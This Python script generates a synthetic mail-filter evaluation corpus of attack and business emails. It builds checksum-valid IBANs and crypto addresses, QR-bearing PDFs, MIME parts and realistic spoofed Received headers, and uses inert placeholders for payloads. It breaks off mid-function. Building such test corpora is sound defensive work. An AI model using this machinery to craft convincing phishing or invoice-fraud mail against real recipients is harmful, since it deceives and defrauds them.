#!/usr/bin/env python3
# -*- coding: utf-8 -*-
"""
build.py - deterministic generator for the Example Group mail-gateway
evaluation set (attack/ and business/ .eml files).

Python 3 standard library only, no network, no unseeded randomness:
every "random-looking" value (queue ids, Message-IDs, boundaries, tokens)
is derived from SHA-256 of fixed strings.  Running the script twice
produces byte-identical output.

Usage:  python3 build.py        (writes ../attack/*.eml and ../business/*.eml)
"""
import base64
import datetime as _dt
import hashlib
import io
import os
import quopri
import struct
import sys
import zipfile
import zlib
from email.utils import format_datetime

HERE = os.path.dirname(os.path.abspath(__file__))
ROOT = os.path.dirname(HERE)

# ---------------------------------------------------------------------------
# deterministic pseudo-random helpers
# ---------------------------------------------------------------------------
HEX = '0123456789abcdef'
B62 = '0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz'
UPHEX = '0123456789ABCDEF'
UPALNUM = '0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZ'


def H(seed, n=16, alphabet=HEX):
    """Deterministic string of length n over alphabet, derived from seed."""
    out = ''
    ctr = 0
    while len(out) < n:
        num = int.from_bytes(hashlib.sha256(('%s#%d' % (seed, ctr)).encode()).digest(), 'big')
        for _ in range(40):
            num, r = divmod(num, len(alphabet))
            out += alphabet[r]
        ctr += 1
    return out[:n]


def HN(seed, lo, hi):
    """Deterministic integer in [lo, hi]."""
    num = int.from_bytes(hashlib.sha256(str(seed).encode()).digest()[:8], 'big')
    return lo + num % (hi - lo + 1)


# ---------------------------------------------------------------------------
# time helpers
# ---------------------------------------------------------------------------
def TZ(hours):
    return _dt.timezone(_dt.timedelta(hours=hours))


CET, EET, GMT, MSK, PST, UTC = TZ(1), TZ(2), TZ(0), TZ(3), TZ(-8), TZ(0)


def D(stamp, tz=CET):
    """D('11-03 09:14:22', CET) -> aware datetime in 2026."""
    md, hms = stamp.split()
    mo, dy = (int(x) for x in md.split('-'))
    h, mi, s = (int(x) for x in hms.split(':'))
    return _dt.datetime(2026, mo, dy, h, mi, s, tzinfo=tz)


def fmt(dt):
    return format_datetime(dt)


def plus(dt, seconds, tz=None):
    r = dt + _dt.timedelta(seconds=seconds)
    return r.astimezone(tz) if tz is not None else r


# ---------------------------------------------------------------------------
# check digits: IBAN (ISO 13616 mod 97) and national schemes
# ---------------------------------------------------------------------------
def _alnum_to_int_str(s):
    return ''.join(str(int(c, 36)) for c in s)


def iban(country, bban):
    bban = bban.replace(' ', '').upper()
    n = int(_alnum_to_int_str(bban + country + '00'))
    return '%s%02d%s' % (country, 98 - n % 97, bban)


def iban_ok(s):
    s = s.replace(' ', '')
    return int(_alnum_to_int_str(s[4:] + s[:4])) % 97 == 1


def iban_fmt(s):
    s = s.replace(' ', '')
    return ' '.join(s[i:i + 4] for i in range(0, len(s), 4))


def de_kto_m00(acc9):
    """German account number, check method 00 (mod 10, weights 2,1,2,.. from
    the right, cross sums) - as used by many savings and co-operative banks."""
    s = 0
    for i, c in enumerate(reversed(acc9)):
        p = int(c) * (2 if i % 2 == 0 else 1)
        s += p // 10 + p % 10
    return acc9 + str((10 - s % 10) % 10)


def iban_de(blz, acc9):
    return iban('DE', blz + de_kto_m00(acc9))


_IT_ODD = [1, 0, 5, 7, 9, 13, 15, 17, 19, 21, 2, 4, 18, 20, 11, 3, 6, 8, 12, 14, 16, 10, 22, 25, 24, 23]


def it_cin(abi, cab, conto):
    s = 0
    for i, c in enumerate(abi + cab + conto):
        v = int(c, 36) if c.isdigit() else ord(c) - 65
        if c.isdigit():
            v = int(c)
        s += _IT_ODD[v] if i % 2 == 0 else v
    return chr(65 + s % 26)


def iban_it(abi, cab, conto):
    conto = conto.rjust(12, '0')
    return iban('IT', it_cin(abi, cab, conto) + abi + cab + conto)


def es_dc(entidad, oficina, cuenta):
    w = [1, 2, 4, 8, 5, 10, 9, 7, 3, 6]

    def d(digits):
        r = 11 - sum(int(a) * b for a, b in zip(digits, w)) % 11
        return {11: 0, 10: 1}.get(r, r)
    return '%d%d' % (d('00' + entidad + oficina), d(cuenta))


def iban_es(entidad, oficina, cuenta):
    return iban('ES', entidad + oficina + es_dc(entidad, oficina, cuenta) + cuenta)


def pl_sort(code7):
    w = [3, 9, 7, 1, 3, 9, 7]
    return code7 + str((10 - sum(int(a) * b for a, b in zip(code7, w)) % 10) % 10)


def iban_pl(code7, acc16):
    return iban('PL', pl_sort(code7) + acc16)


def nrb(ib):
    """Polish domestic NRB notation (IBAN without 'PL', grouped 2+6x4)."""
    s = ib.replace(' ', '')[2:]
    return s[:2] + ' ' + ' '.join(s[i:i + 4] for i in range(2, len(s), 4))


def ru_account(bik, acc_without_key):
    """Russian settlement account (20 digits) with control key (position 9)
    computed against the BIK (Bank of Russia algorithm, weights 7,1,3)."""
    a = acc_without_key[:8] + '0' + acc_without_key[8:]
    assert len(a) == 20
    w = [7, 1, 3] * 8
    s = sum((int(c) * w[i]) % 10 for i, c in enumerate(bik[-3:] + a))
    key = (s % 10) * 3 % 10
    r = a[:8] + str(key) + a[9:]
    assert ru_account_ok(bik, r)
    return r


def ru_account_ok(bik, acc):
    w = [7, 1, 3] * 8
    return sum((int(c) * w[i]) % 10 for i, c in enumerate(bik[-3:] + acc)) % 10 == 0


def ru_corr_ok(bik, acc):
    w = [7, 1, 3] * 8
    return sum((int(c) * w[i]) % 10 for i, c in enumerate('0' + bik[4:6] + acc)) % 10 == 0


def ru_inn10(first9):
    w = [2, 4, 10, 3, 5, 9, 4, 6, 8]
    return first9 + str(sum(int(a) * b for a, b in zip(first9, w)) % 11 % 10)


def pl_nip(first9):
    w = [6, 5, 7, 2, 3, 4, 5, 6, 7]
    c = sum(int(a) * b for a, b in zip(first9, w)) % 11
    assert c != 10, first9
    return first9 + str(c)


def nip_fmt(n):
    return '%s-%s-%s-%s' % (n[:3], n[3:6], n[6:8], n[8:])


def it_piva(first10):
    s = 0
    for i, c in enumerate(first10):
        d = int(c)
        if i % 2 == 1:
            d *= 2
            if d > 9:
                d -= 9
        s += d
    return first10 + str((10 - s % 10) % 10)


def de_ustid(first8):
    p = 10
    for c in first8:
        s = (int(c) + p) % 10
        if s == 0:
            s = 10
        p = (2 * s) % 11
    return 'DE' + first8 + str((11 - p) % 10)


def gr_afm(first8):
    s = sum(int(c) * 2 ** (8 - i) for i, c in enumerate(first8))
    return first8 + str(s % 11 % 10)


def es_cif(letter, first7):
    a = sum(int(first7[i]) for i in (1, 3, 5))
    b = 0
    for i in (0, 2, 4, 6):
        d = int(first7[i]) * 2
        b += d // 10 + d % 10
    return letter + first7 + str((10 - (a + b) % 10) % 10)


# ---------------------------------------------------------------------------
# cryptocurrency addresses (checksums valid; payload = hash of a fixed label,
# so nobody is known to hold a key for them)
# ---------------------------------------------------------------------------
_B58 = '123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz'


def b58check(version, payload):
    raw = bytes([version]) + payload
    raw += hashlib.sha256(hashlib.sha256(raw).digest()).digest()[:4]
    n = int.from_bytes(raw, 'big')
    out = ''
    while n:
        n, r = divmod(n, 58)
        out = _B58[r] + out
    pad = len(raw) - len(raw.lstrip(b'\0'))
    return '1' * pad + out


def b58check_ok(s):
    n = 0
    for c in s:
        n = n * 58 + _B58.index(c)
    pad = len(s) - len(s.lstrip('1'))
    raw = b'\0' * pad + n.to_bytes((n.bit_length() + 7) // 8, 'big')
    return hashlib.sha256(hashlib.sha256(raw[:-4]).digest()).digest()[:4] == raw[-4:]


_BECH = 'qpzry9x8gf2tvdw0s3jn54khce6mua7l'


def _bech_polymod(values):
    gen = [0x3b6a57b2, 0x26508e6d, 0x1ea119fa, 0x3d4233dd, 0x2a1462b3]
    chk = 1
    for v in values:
        b = chk >> 25
        chk = (chk & 0x1ffffff) << 5 ^ v
        for i in range(5):
            chk ^= gen[i] if ((b >> i) & 1) else 0
    return chk


def _hrp_expand(hrp):
    return [ord(x) >> 5 for x in hrp] + [0] + [ord(x) & 31 for x in hrp]


def _convertbits(data, frm, to):
    acc = bits = 0
    ret = []
    maxv = (1 << to) - 1
    for v in data:
        acc = (acc << frm) | v
        bits += frm
        while bits >= to:
            bits -= to
            ret.append((acc >> bits) & maxv)
    if bits:
        ret.append((acc << (to - bits)) & maxv)
    return ret


def segwit_addr(hrp, witver, prog):
    data = [witver] + _convertbits(prog, 8, 5)
    const = 1 if witver == 0 else 0x2bc830a3
    pm = _bech_polymod(_hrp_expand(hrp) + data + [0] * 6) ^ const
    chk = [(pm >> 5 * (5 - i)) & 31 for i in range(6)]
    return hrp + '1' + ''.join(_BECH[d] for d in data + chk)


def segwit_ok(addr):
    hrp, _, data = addr.rpartition('1')
    vals = [_BECH.index(c) for c in data]
    return _bech_polymod(_hrp_expand(hrp) + vals) == 1


def h160(label):
    return hashlib.sha256(label.encode()).digest()[:20]


# ---------------------------------------------------------------------------
# QR code encoder (byte mode, EC level M, versions 1-10, full RS + masking)
# ---------------------------------------------------------------------------
_GF_EXP = [0] * 512
_GF_LOG = [0] * 256
_x = 1
for _i in range(255):
    _GF_EXP[_i] = _x
    _GF_LOG[_x] = _i
    _x <<= 1
    if _x & 0x100:
        _x ^= 0x11d
for _i in range(255, 512):
    _GF_EXP[_i] = _GF_EXP[_i - 255]


def _gmul(a, b):
    if a == 0 or b == 0:
        return 0
    return _GF_EXP[_GF_LOG[a] + _GF_LOG[b]]


def _rs_gen(n):
    g = [1]
    for i in range(n):
        ng = [0] * (len(g) + 1)
        for j, c in enumerate(g):
            ng[j] ^= c
            ng[j + 1] ^= _gmul(c, _GF_EXP[i])
        g = ng
    return g


def _rs_ec(data, n):
    gen = _rs_gen(n)
    res = list(data) + [0] * n
    for i in range(len(data)):
        coef = res[i]
        if coef:
            for j in range(1, len(gen)):
                res[i + j] ^= _gmul(gen[j], coef)
    return res[len(data):]


# version -> (ec codewords per block, [(num_blocks, data_codewords_per_block), ...]) for level M
_QR_M = {
    1: (10, [(1, 16)]), 2: (16, [(1, 28)]), 3: (26, [(1, 44)]), 4: (18, [(2, 32)]),
    5: (24, [(2, 43)]), 6: (16, [(4, 27)]), 7: (18, [(4, 31)]),
    8: (22, [(2, 38), (2, 39)]), 9: (22, [(3, 36), (2, 37)]), 10: (26, [(4, 43), (1, 44)]),
}
_QR_ALIGN = {1: [], 2: [6, 18], 3: [6, 22], 4: [6, 26], 5: [6, 30], 6: [6, 34],
             7: [6, 22, 38], 8: [6, 24, 42], 9: [6, 26, 46], 10: [6, 28, 50]}


def qr_matrix(text):
    data = text.encode('utf-8')
    for ver in range(1, 11):
        ecn, groups = _QR_M[ver]
        cap = sum(nb * dc for nb, dc in groups)
        ccbits = 8 if ver < 10 else 16
        if 4 + ccbits + 8 * len(data) <= cap * 8:
            break
    else:
        raise ValueError('QR payload too long')
    bits = []

    def put(val, n):
        for i in range(n - 1, -1, -1):
            bits.append((val >> i) & 1)
    put(0b0100, 4)
    put(len(data), ccbits)
    for b in data:
        put(b, 8)
    put(0, min(4, cap * 8 - len(bits)))
    while len(bits) % 8:
        bits.append(0)
    cw = [int(''.join(map(str, bits[i:i + 8])), 2) for i in range(0, len(bits), 8)]
    pad = [0xEC, 0x11]
    i = 0
    while len(cw) < cap:
        cw.append(pad[i % 2])
        i += 1
    # split into blocks, compute EC, interleave
    blocks, pos = [], 0
    for nb, dc in groups:
        for _ in range(nb):
            blocks.append(cw[pos:pos + dc])
            pos += dc
    ecs = [_rs_ec(b, ecn) for b in blocks]
    final = []
    for i in range(max(len(b) for b in blocks)):
        for b in blocks:
            if i < len(b):
                final.append(b[i])
    for i in range(ecn):
        for e in ecs:
            final.append(e[i])
    allbits = []
    for c in final:
        for i in range(7, -1, -1):
            allbits.append((c >> i) & 1)

    size = 17 + 4 * ver
    mod = [[0] * size for _ in range(size)]
    fun = [[False] * size for _ in range(size)]

    def setf(x, y, v):
        mod[y][x] = 1 if v else 0
        fun[y][x] = True

    for i in range(size):  # timing
        setf(6, i, i % 2 == 0)
        setf(i, 6, i % 2 == 0)
    for cx, cy in ((3, 3), (size - 4, 3), (3, size - 4)):  # finders + separators
        for dy in range(-4, 5):
            for dx in range(-4, 5):
                x, y = cx + dx, cy + dy
                if 0 <= x < size and 0 <= y < size:
                    d = max(abs(dx), abs(dy))
                    setf(x, y, d not in (2, 4))
    al = _QR_ALIGN[ver]
    n = len(al)
    for i in range(n):
        for j in range(n):
            if (i == 0 and j == 0) or (i == 0 and j == n - 1) or (i == n - 1 and j == 0):
                continue
            for dy in range(-2, 3):
                for dx in range(-2, 3):
                    setf(al[i] + dx, al[j] + dy, max(abs(dx), abs(dy)) != 1)

    def draw_format(mask):
        d = (0b00 << 3) | mask  # EC level M = 00
        rem = d
        for _ in range(10):
            rem = (rem << 1) ^ ((rem >> 9) * 0x537)
        b = ((d << 10) | rem) ^ 0x5412
        bit = lambda i: (b >> i) & 1
        for i in range(0, 6):
            setf(8, i, bit(i))
        setf(8, 7, bit(6))
        setf(8, 8, bit(7))
        setf(7, 8, bit(8))
        for i in range(9, 15):
            setf(14 - i, 8, bit(i))
        for i in range(0, 8):
            setf(size - 1 - i, 8, bit(i))
        for i in range(8, 15):
            setf(8, size - 15 + i, bit(i))
        setf(8, size - 8, 1)

    draw_format(0)  # reserve
    if ver >= 7:
        rem = ver
        for _ in range(12):
            rem = (rem << 1) ^ ((rem >> 11) * 0x1F25)
        vb = (ver << 12) | rem
        for i in range(18):
            bt = (vb >> i) & 1
            a, b2 = size - 11 + i % 3, i // 3
            setf(a, b2, bt)
            setf(b2, a, bt)

    # zig-zag data placement
    i = 0
    right = size - 1
    while right >= 1:
        if right == 6:
            right = 5
        for vert in range(size):
            for j in range(2):
                x = right - j
                upward = ((right + 1) & 2) == 0
                y = size - 1 - vert if upward else vert
                if not fun[y][x]:
                    mod[y][x] = allbits[i] if i < len(allbits) else 0
                    i += 1
        right -= 2

    masks = [
        lambda x, y: (x + y) % 2 == 0,
        lambda x, y: y % 2 == 0,
        lambda x, y: x % 3 == 0,
        lambda x, y: (x + y) % 3 == 0,
        lambda x, y: (x // 3 + y // 2) % 2 == 0,
        lambda x, y: x * y % 2 + x * y % 3 == 0,
        lambda x, y: (x * y % 2 + x * y % 3) % 2 == 0,
        lambda x, y: ((x + y) % 2 + x * y % 3) % 2 == 0,
    ]

    def apply_mask(m):
        f = masks[m]
        for y in range(size):
            for x in range(size):
                if not fun[y][x] and f(x, y):
                    mod[y][x] ^= 1

    def penalty():
        p = 0
        lines = [row[:] for row in mod] + [[mod[y][x] for y in range(size)] for x in range(size)]
        pat1 = [1, 0, 1, 1, 1, 0, 1, 0, 0, 0, 0]
        pat2 = pat1[::-1]
        for ln in lines:
            run, prev = 0, None
            for v in ln + [None]:
                if v == prev:
                    run += 1
                else:
                    if run >= 5:
                        p += 3 + run - 5
                    run, prev = 1, v
            for k in range(len(ln) - 10):
                seg = ln[k:k + 11]
                if seg == pat1 or seg == pat2:
                    p += 40
        for y in range(size - 1):
            for x in range(size - 1):
                c = mod[y][x]
                if c == mod[y][x + 1] == mod[y + 1][x] == mod[y + 1][x + 1]:
                    p += 3
        dark = sum(map(sum, mod))
        p += abs(dark * 20 - size * size * 10) // (size * size) * 10
        return p

    best, bestp = 0, None
    for m in range(8):
        apply_mask(m)
        draw_format(m)
        pp = penalty()
        if bestp is None or pp < bestp:
            best, bestp = m, pp
        apply_mask(m)  # undo (xor)
    apply_mask(best)
    draw_format(best)
    return mod


def _png_chunk(typ, data):
    c = typ + data
    return struct.pack('>I', len(data)) + c + struct.pack('>I', zlib.crc32(c) & 0xffffffff)


def qr_png(text, scale=6, border=4):
    mat = qr_matrix(text)
    n = len(mat)
    w = (n + 2 * border) * scale
    rows = bytearray()
    for y in range(w):
        my = y // scale - border
        rows.append(0)
        for x in range(w):
            mx = x // scale - border
            dark = 0 <= mx < n and 0 <= my < n and mat[my][mx]
            rows.append(0 if dark else 255)
    return (b'\x89PNG\r\n\x1a\n' +
            _png_chunk(b'IHDR', struct.pack('>IIBBBBB', w, w, 8, 0, 0, 0, 0)) +
            _png_chunk(b'IDAT', zlib.compress(bytes(rows), 9)) +
            _png_chunk(b'IEND', b''))


# ---------------------------------------------------------------------------
# PDF placeholder documents (one page, Helvetica, optional QR image)
# ---------------------------------------------------------------------------
def _pdf_str(s):
    b = s.encode('cp1252', 'replace')
    return b.replace(b'\\', b'\\\\').replace(b'(', b'\\(').replace(b')', b'\\)')


def pdf_doc(lines, title='', producer='Microsoft: Print To PDF', qr=None, qr_pos=(370, 560, 170)):
    """lines: list of strings; a line starting with '#' is printed bold/larger."""
    content = bytearray(b'BT\n/F1 10 Tf\n50 790 Td\n14 TL\n')
    for ln in lines:
        if ln.startswith('#'):
            content += b'/F2 13 Tf\n(' + _pdf_str(ln[1:].strip()) + b') Tj T*\n/F1 10 Tf\n'
        else:
            content += b'(' + _pdf_str(ln) + b') Tj T*\n'
    content += b'ET\n'
    objs = []
    xobj = b''
    if qr:
        mat = qr_matrix(qr)
        n = len(mat) + 8
        raw = bytearray()
        for y in range(n):
            for x in range(n):
                my, mx = y - 4, x - 4
                dark = 0 <= mx < len(mat) and 0 <= my < len(mat) and mat[my][mx]
                raw.append(0 if dark else 255)
        img = zlib.compress(bytes(raw), 9)
        x0, y0, sz = qr_pos
        content += b'q %d 0 0 %d %d %d cm /Im1 Do Q\n' % (sz, sz, x0, y0)
        xobj = b' /XObject << /Im1 7 0 R >>'
    cz = zlib.compress(bytes(content), 9)
    objs.append(b'<< /Type /Catalog /Pages 2 0 R >>')
    objs.append(b'<< /Type /Pages /Kids [3 0 R] /Count 1 >>')
    objs.append(b'<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R '
                b'/Resources << /Font << /F1 5 0 R /F2 6 0 R >>' + xobj + b' >> >>')
    objs.append(b'<< /Length %d /Filter /FlateDecode >>\nstream\n' % len(cz) + cz + b'\nendstream')
    objs.append(b'<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>')
    objs.append(b'<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica-Bold /Encoding /WinAnsiEncoding >>')
    if qr:
        objs.append(b'<< /Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceGray '
                    b'/BitsPerComponent 8 /Filter /FlateDecode /Length %d >>\nstream\n' % (n, n, len(img))
                    + img + b'\nendstream')
    objs.append(b'<< /Title (' + _pdf_str(title) + b') /Producer (' + _pdf_str(producer) +
                b') /CreationDate (D:20261101090000+01\'00\') >>')
    info_no = len(objs)
    out = bytearray(b'%PDF-1.4\n%\xe2\xe3\xcf\xd3\n')
    offs = []
    for i, o in enumerate(objs, 1):
        offs.append(len(out))
        out += b'%d 0 obj\n' % i + o + b'\nendobj\n'
    xref = len(out)
    out += b'xref\n0 %d\n0000000000 65535 f \n' % (len(objs) + 1)
    for o in offs:
        out += b'%010d 00000 n \n' % o
    out += b'trailer\n<< /Size %d /Root 1 0 R /Info %d 0 R >>\nstartxref\n%d\n%%%%EOF\n' % (
        len(objs) + 1, info_no, xref)
    return bytes(out)


def zip_bytes(files, when=(2026, 11, 2, 9, 0, 0)):
    """files: list of (name, bytes). Deterministic ZIP."""
    bio = io.BytesIO()
    with zipfile.ZipFile(bio, 'w', zipfile.ZIP_DEFLATED) as z:
        for name, data in files:
            zi = zipfile.ZipInfo(name, date_time=when)
            zi.compress_type = zipfile.ZIP_DEFLATED
            zi.external_attr = 0o644 << 16
            z.writestr(zi, data)
    return bio.getvalue()


INERT = (b'INERT PLACEHOLDER - this file stands in for a malicious payload in a mail-filter '
         b'evaluation corpus. It contains no executable code.\r\n')

# ---------------------------------------------------------------------------
# MIME construction
# ---------------------------------------------------------------------------


def _is_ascii(s):
    return all(32 <= ord(c) < 127 for c in s)


def ew(s, cs='UTF-8', enc='Q'):
    """RFC 2047 encoded-word(s) for a header value, folded with CRLF SP."""
    if _is_ascii(s):
        return s
    prefix = '=?%s?%s?' % (cs, enc)
    maxlen = 75 - len(prefix) - 2

    def q(b):
        o = ''
        for by in b:
            c = chr(by)
            if by == 32:
                o += '_'
            elif by < 128 and (c.isalnum() or c in '!*+-/'):
                o += c
            else:
                o += '=%02X' % by
        return o

    def e(b):
        return q(b) if enc == 'Q' else base64.b64encode(b).decode()
    chunks, cur = [], ''
    for ch in s:
        cand = cur + ch
        if cur and len(e(cand.encode(cs))) > maxlen:
            k = cur.rfind(' ')
            if 0 < k < len(cur) - 1 and len(e((cur[k + 1:] + ch).encode(cs))) <= maxlen:
                chunks.append(cur[:k + 1])   # break after a space (kept inside the word)
                cur = cur[k + 1:] + ch
            else:
                chunks.append(cur)
                cur = ch
        else:
            cur = cand
    if cur:
        chunks.append(cur)
    return '\n '.join(prefix + e(c.encode(cs)) + '?=' for c in chunks)


def A(name, email, cs='UTF-8', enc='Q'):
    if not name:
        return '<%s>' % email if False else email
    if _is_ascii(name):
        if any(c in name for c in '()<>@,;:\\".[]'):
            name = '"' + name.replace('\\', '\\\\').replace('"', '\\"') + '"'
        return '%s <%s>' % (name, email)
    w = ew(name, cs, enc)
    if '\n' in w and enc == 'Q':
        wb = ew(name, cs, 'B')
        if wb.count('\n') < w.count('\n'):
            w = wb
    return '%s <%s>' % (w, email)


def AL(lst, cs='UTF-8', enc='Q'):
    """list of (name, email) -> folded address list"""
    items = [A(n, e, cs, enc) for n, e in lst]
    return ',\n\t'.join(items) if len(', '.join(items)) > 60 else ', '.join(items)


class Part:
    def __init__(self, headers, body=b'', parts=None, boundary=None):
        self.headers = headers
        self.body = body
        self.parts = parts
        self.boundary = boundary


def _encode_body(raw, cte):
    if cte == 'quoted-printable':
        out = quopri.encodestring(raw)
    elif cte == 'base64':
        out = base64.encodebytes(raw)
    else:
        out = raw
    if not out.endswith(b'\n'):
        out += b'\n'
    return out


def T(text, sub='plain', cs='UTF-8', cte='quoted-printable', ctparams='', quote_cs=True):
    """Text part. cs is written exactly as given and used as the codec."""
    raw = text.encode(cs)
    if cte in ('7bit',):
        raw.decode('ascii')
    c = ('charset="%s"' % cs) if quote_cs else ('charset=%s' % cs)
    return Part([('Content-Type', 'text/%s; %s%s' % (sub, c, ctparams)),
                 ('Content-Transfer-Encoding', cte)], _encode_body(raw, cte))


def ATT(data, ctype, filename, inline=False, cid=None, cte='base64', fn_style='2231'):
    if _is_ascii(filename):
        nm = 'name="%s"' % filename
        fnp = 'filename="%s"' % filename
    else:
        nm = 'name="%s"' % ew(filename, 'UTF-8', 'B').replace('\n ', ' ')
        if fn_style == '2231':
            from urllib.parse import quote
            fnp = "filename*=UTF-8''%s" % quote(filename, safe='')
        else:
            fnp = 'filename="%s"' % ew(filename, 'UTF-8', 'B').replace('\n ', ' ')
    hdr = [('Content-Type', '%s;\n\t%s' % (ctype, nm))]
    if cid:
        hdr.append(('Content-ID', '<%s>' % cid))
    hdr.append(('Content-Disposition', '%s;\n\t%s' % ('inline' if inline else 'attachment', fnp)))
    hdr.append(('Content-Transfer-Encoding', cte))
    return Part(hdr, _encode_body(data, cte))


def MP(sub, parts, seed, style='std', extra=''):
    if style == 'outlook':
        b = '_%03d_%s_' % (HN(seed + 'b', 0, 9), H(seed, 30, UPHEX + 'AMPRDE'))
        b = '_000_' + H(seed, 40, UPALNUM) + '_'
    elif style == 'gmail':
        b = '0000000000' + H(seed, 18, HEX)
    elif style == 'tb':
        b = '------------' + H(seed, 24, B62)
    elif style == 'apple':
        b = 'Apple-Mail=_' + H(seed, 8, UPHEX) + '-' + H(seed + '1', 4, UPHEX) + '-' + \
            H(seed + '2', 4, UPHEX) + '-' + H(seed + '3', 4, UPHEX) + '-' + H(seed + '4', 12, UPHEX)
    elif style == 'php':
        b = 'b1=_' + H(seed, 43, B62)
    elif style == 'bulk':
        b = '----=_Part_' + str(HN(seed, 100000, 999999)) + '_' + str(HN(seed + 'x', 10 ** 8, 10 ** 9)) + \
            '.' + str(HN(seed + 'y', 10 ** 12, 10 ** 13))
    else:
        b = '----=_NextPart_' + H(seed, 3, HEX) + '_' + H(seed + 'a', 4, UPHEX) + '_' + \
            H(seed + 'b', 8, UPHEX) + '.' + H(seed + 'c', 8, UPHEX)
    ct = 'multipart/%s;\n\tboundary="%s"%s' % (sub, b, extra)
    return Part([('Content-Type', ct)], parts=parts, boundary=b)


def _ser(p, top=False):
    out = bytearray()
    if not top:
        for k, v in p.headers:
            out += ('%s: %s\n' % (k, v)).encode('ascii')
        out += b'\n'
    if p.parts is None:
        out += p.body
    else:
        if top:
            out += b'This is a multi-part message in MIME format.\n\n'
        for sp in p.parts:
            out += ('--%s\n' % p.boundary).encode()
            out += _ser(sp)
            if not out.endswith(b'\n'):
                out += b'\n'
        out += ('--%s--\n' % p.boundary).encode()
    return bytes(out)


# ---------------------------------------------------------------------------
# message assembly
# ---------------------------------------------------------------------------
MESSAGES = []
MX_IDS = set()


def qid(seed):
    # Postfix long queue id style, e.g. 4dK7Hq2ZxLz9sWd
    s = '4d' + H(seed + 'qid', 13, 'BCDFGHJKLMNPQRSTVWXYZbcdfghjklmnpqrstvwxyz0123456789')
    return s


def received_mx(helo, rdns, ip, rcpt, dt_mx, seed, tls='TLSv1.3', cipher='TLS_AES_256_GCM_SHA384 (256/256 bits)'):
    dt_mx = dt_mx.astimezone(CET)
    rd = rdns if rdns else 'unknown'
    s = 'from %s (%s [%s])\n' % (helo, rd, ip)
    if tls:
        s += '\t(using %s with cipher %s)\n\t(No client certificate requested)\n' % (tls, cipher)
        w = 'ESMTPS'
    else:
        w = 'ESMTP'
    s += '\tby mx01.example.com (Postfix) with %s id %s\n\tfor <%s>; %s' % (w, qid(seed), rcpt, fmt(dt_mx))
    return s


def INTERNAL_RELAY(dt_send, seed, host='EX02'):
    """Received chain for colleague mail through mail-int01 (Exchange 2019 behind it)."""
    t1 = plus(dt_send, 1, CET)
    lower = ('from %s.ad.example.com (10.20.1.%d) by mail-int01.example.com\n'
             '\t(10.20.0.25) with Microsoft SMTP Server (version=TLS1_2,\n'
             '\tcipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id 15.2.1748.24;\n\t%s' %
             (host, 12 if host == 'EX02' else 11, fmt(t1)))
    return dict(helo='mail-int01.example.com', rdns='mail-int01.example.com', ip='10.20.0.25',
                received=[lower], tls='TLSv1.2', cipher='ECDHE-RSA-AES256-GCM-SHA384 (256/256 bits)')


def M(**kw):
    MESSAGES.append(kw)


def render(m):
    m = dict(m.get('infra', {}), **{k: v for k, v in m.items() if k != 'infra'})
    seed = m['file']
    dt = m['date']
    dt_mx = plus(dt, m.get('delay', HN(seed + 'delay', 2, 40)), CET)
    rcpt = m['rcpt']
    lines = []
    lines.append(('Return-Path', '<%s>' % m['mailfrom'] if m['mailfrom'] else '<>'))
    lines.append(('Received', received_mx(m['helo'], m.get('rdns'), m['ip'], rcpt, dt_mx, seed,
                                          tls=m.get('tls', 'TLSv1.3'),
                                          cipher=m.get('cipher', 'TLS_AES_256_GCM_SHA384 (256/256 bits)'))))
    for r in m.get('received', []):
        lines.append(('Received', r))
    for k, v in m.get('pre', []):
        lines.append((k, v))
    hcs = m.get('hcs', 'UTF-8')
    henc = m.get('henc', 'Q')
    frm = m['frm']
    order = m.get('order', ['From', 'To', 'Cc', 'Reply-To', 'Subject', 'Date', 'Message-ID'])
    hv = {
        'From': A(frm[0], frm[1], hcs, henc),
        'To': m.get('to_raw') or AL(m['to'], hcs, henc),
        'Cc': AL(m['cc'], hcs, henc) if m.get('cc') else None,
        'Reply-To': A(m['reply_to'][0], m['reply_to'][1], hcs, henc) if m.get('reply_to') else None,
        'Subject': ew(m['subject'], hcs, henc),
        'Date': fmt(dt),
        'Message-ID': '<%s>' % m['msgid'],
    }
    for k in order:
        if hv.get(k):
            lines.append((k, hv[k]))
    for k, v in m.get('extra', []):
        if not all(ord(c) < 128 for c in v):
            v = ew(v, hcs, henc)
        lines.append((k, v))
    body = m['body']
    lines.append(('MIME-Version', '1.0'))
    for k, v in body.headers:
        lines.append((k, v))
    out = bytearray()
    for k, v in lines:
        try:
            out += ('%s: %s\n' % (k, v)).encode('ascii')
        except UnicodeEncodeError:
            raise SystemExit('non-ASCII header %s in %s: %r' % (k, seed, v))
    out += b'\n'
    out += _ser(body, top=True)
    data = bytes(out).replace(b'\r\n', b'\n').replace(b'\n', b'\r\n')
    for ln in data.split(b'\r\n'):
        assert len(ln) <= 998, (seed, ln[:80])
    return data


# ---------------------------------------------------------------------------
# sending-infrastructure helpers (top hop data + lower Received lines + ids)
# ---------------------------------------------------------------------------
def gmail_infra(seed, dt, rcpt, workspace=False):
    n = HN(seed + 'g', 41, 99)
    pre = ['ej1', 'wr1', 'wm1', 'lf1', 'ed1', 'pl1', 'qk1'][HN(seed + 'p', 0, 6)]
    last = {'ej1': 218, 'wr1': 221, 'wm1': 128, 'lf1': 167, 'ed1': 208, 'pl1': 214, 'qk1': 222}[pre]
    host = 'mail-%s-f%d.google.com' % (pre, n)
    ip = '209.85.%d.%d' % (last, n)
    t = plus(dt, 1, PST)
    r = ['by %s with SMTP id %s\n        for <%s>; %s (PST)' % (
        host, 'a640c23a62f3a-' + H(seed + 'sid', 12, HEX) + 'so' + str(HN(seed, 100000, 999999)) + '66b.' + str(HN(seed + 'z', 1, 9)),
        rcpt, fmt(t))]
    mid = 'CA' + H(seed + 'mid', 44, B62 + '+_-') + '@mail.gmail.com'
    return dict(helo=host, rdns=host, ip=ip, received=r, msgid=mid)


def outlookcom_infra(seed, dt, rcpt):
    region = ['EUR05-DB8', 'EUR03-AM7', 'EUR02-VI1', 'EUR04-DB3'][HN(seed + 'r', 0, 3)]
    node = region.split('-')[1].lower()
    n = HN(seed + 'n', 2010, 2199)
    host = '%s-obe.outbound.protection.outlook.com' % region
